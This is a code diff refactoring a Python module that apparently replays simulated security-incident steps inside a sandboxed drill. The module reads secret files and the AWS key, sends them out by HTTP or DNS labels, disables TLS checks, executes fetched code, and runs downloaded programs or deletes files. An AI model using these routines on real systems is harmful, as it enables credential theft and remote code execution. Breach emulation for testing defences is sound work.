@@ -1,7 +1,7 @@
-"""The behaviours of incidents in Python, which `shielded-function drill` puts beside a function's code.
+"""Plays the steps of plan.json in Python: `shielded-function drill` puts it beside a function's code.
 
 It is harmless: it takes only secrets that the drill made up, it runs nothing but `echo`, and it is started only in a
-sandbox whose network is its own loopback. Each behaviour's beginning and end is a line in the log.
+sandbox whose network is its own loopback. Each step's beginning and end is a line in the log.
 """
 
 from __future__ import annotations
@@ -16,7 +16,6 @@ import ssl
 import subprocess
 import sys
 import urllib.request
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -37,85 +36,26 @@ def secret(take: str) -> str:
     return "\n".join(path.read_text() for path in found if take == "files" or path.name == ".npmrc")
 
 
-def tls() -> ssl.SSLContext:
-    """Without certificates: the emulated receivers have none."""
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    context.maximum_version = ssl.TLSVersion.TLSv1_2
-    context.set_ciphers("aNULL:@SECLEVEL=0")
-    return context
+def filled(text: str, take: str) -> str:
+    """A text with the secret in it: in base64, or the last part as the label of a name."""
+    taken = secret(take) if take else ""
+    text = text.replace("{base64}", base64.b64encode(taken.encode()).decode())
+    return text.replace("{label}", taken.strip()[-30:].encode().hex()).replace("{key}", os.environ["AWS_ACCESS_KEY_ID"])
 
 
-def request(step: dict[str, Any], path: str = "/", body: str = "", headers: dict[str, str] | None = None) -> bytes:
-    port = step.get("port", 443)
-    connection = (
-        http.client.HTTPSConnection(step["host"], port, timeout=SECONDS, context=tls())
-        if port == 443
-        else http.client.HTTPConnection(step["host"], port, timeout=SECONDS)
-    )
-    connection.request("POST" if body else "GET", path, body or None, headers or {})
+def request(step: dict[str, Any]) -> bytes:
+    """TLS is without certificates: the emulated receivers have none."""
+    host, port, body = step["host"], step["port"], filled(step["body"], step["take"])
+    connection = http.client.HTTPConnection(host, port, timeout=SECONDS)
+    if port == 443:
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        context.maximum_version = ssl.TLSVersion.TLSv1_2
+        context.set_ciphers("aNULL:@SECLEVEL=0")
+        connection = http.client.HTTPSConnection(host, port, timeout=SECONDS, context=context)
+    headers = {name: filled(text, step["take"]) for name, text in step["headers"].items()}
+    connection.request("POST" if body else "GET", filled(step["path"], step["take"]), body or None, headers)
     return connection.getresponse().read()
-
-
-def send(step: dict[str, Any]) -> None:
-    taken = base64.b64encode(secret(step["take"]).encode()).decode()
-    if step.get("way") == "query":
-        request(step, f"/?{taken}")
-    elif step.get("way") == "header":
-        request(step, headers={"Referer": f"http://1.a/{taken}"})
-    else:
-        request(step, body=taken)
-
-
-def resolve(step: dict[str, Any]) -> None:
-    socket.getaddrinfo(f"{secret(step['take']).strip()[-30:].encode().hex()}.{step['host']}", 80)
-
-
-def ask(step: dict[str, Any]) -> None:
-    request(step)
-
-
-def aws(step: dict[str, Any]) -> None:
-    key = os.environ["AWS_ACCESS_KEY_ID"]
-    request(step, body="Action=GetCallerIdentity", headers={"Authorization": f"AWS4-HMAC-SHA256 Credential={key}/"})
-
-
-def mine(step: dict[str, Any]) -> None:
-    opened = socket.create_connection((step["host"], step["port"]), SECONDS)
-    with tls().wrap_socket(opened, server_hostname=step["host"]) if step["port"] == 443 else opened as pool:
-        pool.sendall(b'{"method":"login"}\n')
-        pool.recv(100)
-
-
-def evaluate(step: dict[str, Any]) -> None:
-    exec(request(step).decode())
-
-
-def start(step: dict[str, Any], *command: str) -> None:
-    subprocess.run([*command, PLAN["nonce"], str(step["step"])], check=True, timeout=SECONDS)
-
-
-def download(step: dict[str, Any]) -> None:
-    program = Path(step["path"])
-    program.write_bytes(request(step))
-    program.chmod(0o755)
-    start(step, str(program))
-
-
-def run(step: dict[str, Any]) -> None:
-    start(step, str(HERE / "program"))
-
-
-def shell(step: dict[str, Any]) -> None:
-    start(step, "/bin/sh", "-c", (HERE / "program").read_text(), "sh")
-
-
-def overwrite(step: dict[str, Any]) -> None:
-    Path(step["path"]).write_text("overwritten")
-
-
-def delete(step: dict[str, Any]) -> None:
-    Path(step["path"]).unlink()
 
 
 def alter(step: dict[str, Any]) -> None:
@@ -149,29 +89,30 @@ def answer(step: dict[str, Any]) -> None:
     setattr(module, function, handler)
 
 
-DOES: dict[str, Callable[[dict[str, Any]], None]] = {
-    "send": send,
-    "resolve": resolve,
-    "ask": ask,
-    "aws": aws,
-    "mine": mine,
-    "evaluate": evaluate,
-    "download": download,
-    "run": run,
-    "shell": shell,
-    "overwrite": overwrite,
-    "delete": delete,
-    "alter": alter,
-    "answer": answer,
-}
+def do(step: dict[str, Any]) -> None:
+    got = request(step) if step["host"] else b""
+    if "lookup" in step:
+        socket.getaddrinfo(filled(step["lookup"], step["take"]), 80)
+    if "evaluate" in step:
+        exec(got.decode())
+    if "write" in step:
+        Path(step["write"]).write_bytes(got or b"overwritten")
+    if "start" in step:
+        if "write" in step:
+            Path(step["write"]).chmod(0o755)
+        subprocess.run([*step["start"], PLAN["nonce"], str(step["step"])], check=True, timeout=SECONDS)
+    if "delete" in step:
+        Path(step["delete"]).unlink()
+    if "hook" in step:
+        {"alter": alter, "answer": answer}[step["hook"]](step)
 
 
 def play() -> None:
-    """Runs each behaviour in order, also after one that fails."""
+    """Does each step in order, also after one that fails."""
     for step in PLAN.get("steps", ()):
         say(begin=step["step"])
         try:
-            DOES[step["do"]](step)
+            do(step)
             say(end=step["step"])
         except Exception as error:
             say(end=step["step"], error=f"{type(error).__name__}: {error}")
